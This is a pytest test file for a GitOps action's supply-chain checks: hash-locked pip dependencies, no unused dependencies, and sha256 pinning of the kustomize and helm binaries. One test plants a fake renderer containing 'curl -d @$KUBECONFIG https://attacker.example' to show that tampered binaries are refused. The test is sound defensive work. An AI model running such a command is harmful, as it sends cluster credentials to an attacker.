"""What the action installs and runs with cluster credentials (issue 12, item 7): locked, hash-checked dependencies,
only the dependencies gitops_job/ imports, and renderers checked against pinned sha256 before anything runs them.
No network and no Go: the lock is checked against pyproject.toml, the checks run against a throw-away cache."""

from __future__ import annotations

import ast
import hashlib
import importlib.metadata
import os
import re
import shutil
import subprocess
import sys
import tomllib
from pathlib import Path
from typing import Any

import pytest
import yaml
from packaging.requirements import Requirement

from tools import lock
from tools.localcluster import build, versions

ROOT = Path(__file__).resolve().parent.parent
PYPROJECT = tomllib.loads((ROOT / "pyproject.toml").read_text())


def _norm(name: str) -> str:
    """A distribution's name as PEP 503 compares them (``ruamel.yaml`` is ``ruamel-yaml``)."""
    return re.sub(r"[-_.]+", "-", name).lower()


def _entries(text: str) -> dict[str, tuple[str, list[str]]]:
    """``name -> (version, hashes)`` of each requirement in a pip requirements file with hashes."""
    out: dict[str, tuple[str, list[str]]] = {}
    for block in re.split(r"\n(?=[A-Za-z0-9])", text):
        if not block[:1].isalnum():
            continue
        first = block.split("\\", 1)[0].strip()
        m = re.fullmatch(r"([A-Za-z0-9._-]+)==([^\s;]+)(\s*;.*)?", first)
        assert m, f"not pinned with ==: {first!r}"
        out[_norm(m[1])] = (m[2], re.findall(r"--hash=sha256:([0-9a-f]{64})", block))
    return out


def test_item12_7_the_lock_pins_every_input_and_every_line_has_hashes() -> None:
    """action-requirements.txt was made from pyproject.toml's dependencies and build requirements as they are now
    (its header records them), pins each input at a version the input allows, and gives every package sha256s."""
    text = lock.LOCK.read_text()
    header = lock.recorded()
    requirements = lock.inputs()
    assert header["inputs-sha256"] == lock.inputs_digest(requirements), (
        "pyproject.toml's dependencies changed: run `python -m tools.lock`"
    )
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", header["exclude-newer"])  # reproducible: a fixed date
    entries = _entries(text)
    assert len(entries) > len(requirements)  # their dependencies too
    for name, (version, hashes) in entries.items():
        assert hashes, f"{name}=={version} has no --hash"
    for spec in map(Requirement, requirements):
        name = _norm(spec.name)
        assert name in entries, f"{spec} is not in the lock"
        assert spec.specifier.contains(entries[name][0], prereleases=True), f"{spec}: locked {entries[name][0]}"
    # Nothing unpinned can slip in: no option lines but hashes, no URL or path requirements.
    options = [line for line in text.splitlines() if line.lstrip().startswith("-") and "--hash=" not in line]
    assert options == []


def _imported_top_level_modules() -> set[str]:
    names = set()
    for path in (ROOT / "gitops_job").rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, ast.Import):
                names |= {a.name.split(".")[0] for a in node.names}
            elif isinstance(node, ast.ImportFrom) and node.level == 0 and node.module:
                names.add(node.module.split(".")[0])
    return names


def test_item12_7_every_declared_dependency_is_imported() -> None:
    """A dependency is declared only once gitops_job/ imports it (deepdiff and docker were declared and never
    imported: two more packages, and theirs, installed next to the cluster credentials for nothing)."""
    imported = _imported_top_level_modules()
    modules_of: dict[str, set[str]] = {}
    for module, dists in importlib.metadata.packages_distributions().items():
        for dist in dists:
            modules_of.setdefault(_norm(dist), set()).add(module)
    unused = []
    for spec in map(Requirement, PYPROJECT["project"]["dependencies"]):
        modules = modules_of.get(_norm(spec.name), set())
        assert modules, f"{spec.name} is not installed in the test environment"
        if not modules & imported:
            unused.append(spec.name)
    assert unused == [], f"declared but never imported by gitops_job/: {unused}"


def _action() -> dict[str, Any]:
    doc = yaml.safe_load((ROOT / "action.yml").read_text())
    assert isinstance(doc, dict)
    return doc


def _step(action: dict[str, Any], step_id: str) -> dict[str, Any]:
    return next(s for s in action["runs"]["steps"] if s.get("id") == step_id)


def test_item12_7_the_action_installs_only_what_the_lock_pins() -> None:
    """The install step takes every dependency from the lock with hash checking, wheels only, and installs
    gitops-job itself without resolving anything; pip's cache is restored before it; Go is the pinned release."""
    action = _action()
    steps = action["runs"]["steps"]
    install = _step(action, "install")
    script = " ".join(install["run"].replace("\\\n", " ").split())
    locked = '--require-hashes --only-binary :all: --requirement "$GITHUB_ACTION_PATH/action-requirements.txt"'
    assert locked in script
    assert '--no-deps --no-build-isolation --no-index "$GITHUB_ACTION_PATH"' in script
    assert script.count("pip install") == 2  # nothing else is installed
    pip_cache = next(s for s in steps if "pip-cache" in str(s.get("with", {}).get("path", "")))
    assert pip_cache["uses"].startswith("actions/cache@")
    assert steps.index(pip_cache) < steps.index(install)
    assert install["env"]["PIP_CACHE_DIR"] == "${{ steps.paths.outputs.pip-cache }}"
    assert "action-requirements.txt" in _step(action, "paths")["run"]  # the pip cache's key changes with the lock
    go = next(s for s in steps if str(s.get("uses", "")).startswith("actions/setup-go@"))
    assert go["with"]["go-version"] == versions.GO_VERSION
    assert _step(action, "tools-cache")["if"] == "steps.paths.outputs.pinned == 'true'"


# --- the renderers' checksums -------------------------------------------------------------------------------------


@pytest.fixture
def cache(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Path:
    """A throw-away cache holding a "kustomize" and a "helm" whose pinned sums are those of their content."""
    monkeypatch.setenv("GITOPS_JOB_CACHE", str(tmp_path))
    pins = {}
    for name in ("kustomize", "helm"):
        path = build.binary(name)
        path.parent.mkdir(parents=True)
        path.write_bytes(f"the real {name}\n".encode())
        pins[name] = {build.platform_key(): hashlib.sha256(path.read_bytes()).hexdigest()}
    monkeypatch.setattr(versions, "SHA256", pins)
    return tmp_path


def test_item12_7_a_tampered_renderer_is_refused_before_it_runs(cache: Path) -> None:
    assert build.verify(["kustomize", "helm"]) == {"kustomize": build.binary("kustomize"), "helm": build.binary("helm")}
    build.binary("kustomize").write_bytes(b"#!/bin/sh\ncurl -d @$KUBECONFIG https://attacker.example\n")
    with pytest.raises(build.BuildError) as refused:
        build.verify(["kustomize", "helm"])
    message = str(refused.value)
    assert message.startswith(f"kustomize {versions.KUSTOMIZE}: {build.binary('kustomize')} has sha256 ")
    assert versions.SHA256["kustomize"][build.platform_key()] in message
    assert "refused" in message and "it was not run" in message


def test_item12_7_without_a_pin_only_a_binary_built_in_this_run_is_accepted(
    cache: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(versions, "SHA256", {})
    assert not build.pinned(["kustomize", "helm"])
    with pytest.raises(build.BuildError, match=f"no pinned sha256 for {build.platform_key()}"):
        build.verify(["helm"])
    assert build.verify(["helm"], built_here=True) == {"helm": build.binary("helm")}


def _tools_step(cache: Path, tmp_path: Path, pinned: str) -> subprocess.CompletedProcess[str]:
    """The action's "Build kustomize and helm … and check their checksums" step, run as the runner runs it."""
    venv = tmp_path / "venv"
    (venv / "bin").mkdir(parents=True)
    (venv / "bin" / "python").symlink_to(sys.executable)
    output = tmp_path / "github-output"
    output.write_text("")
    env = {
        "PATH": os.environ["PATH"],
        "GITHUB_ACTION_PATH": str(ROOT),
        "GITHUB_OUTPUT": str(output),
        "VENV": str(venv),
        "GITOPS_JOB_CACHE": str(cache),
        "PINNED": pinned,
    }
    return subprocess.run(["bash", "-c", _step(_action(), "tools")["run"]], env=env, capture_output=True, text=True)


def test_item12_7_the_action_step_refuses_a_tampered_cached_renderer(tmp_path: Path) -> None:
    """End to end, with the real pins: a restored kustomize that is not the pinned build fails the step with a
    clear message, and no path reaches the step that has the credentials."""
    if not build.pinned(["kustomize", "helm"]):
        pytest.skip(f"no pinned sums for {build.platform_key()}")
    cache = tmp_path / "cache"
    for name in ("kustomize", "helm"):
        path = cache / build.binary(name).relative_to(build.cache_dir())
        path.parent.mkdir(parents=True)
        path.write_bytes(b"a poisoned cache entry\n")
    result = _tools_step(cache, tmp_path, pinned="true")
    assert result.returncode == 1, result.stdout + result.stderr
    assert "kustomize or helm failed its checksum check" in result.stdout
    assert f"verify failed: kustomize {versions.KUSTOMIZE}: " in result.stderr and "refused" in result.stderr
    assert (tmp_path / "github-output").read_text() == ""


def test_item12_7_the_pins_are_those_of_the_pinned_build() -> None:
    """The cached kustomize and helm, when they were built by the pinned Go release here, have the pinned sums
    (the sums are not made up: Go builds them reproducibly)."""
    if not build.pinned(["kustomize", "helm"]) or shutil.which("go") is None:
        pytest.skip("no pinned sums for this platform, or no Go to read the binaries' Go release")
    for name in ("kustomize", "helm"):
        path = build.binary(name)
        if not path.is_file():
            pytest.skip(f"{name} is not built")
        built_with = subprocess.run(["go", "version", str(path)], capture_output=True, text=True).stdout
        if f": go{versions.GO_VERSION}" not in built_with:
            pytest.skip(f"{name} was built with another Go release: {built_with.strip()}")
    assert set(build.verify(["kustomize", "helm"])) == {"kustomize", "helm"}
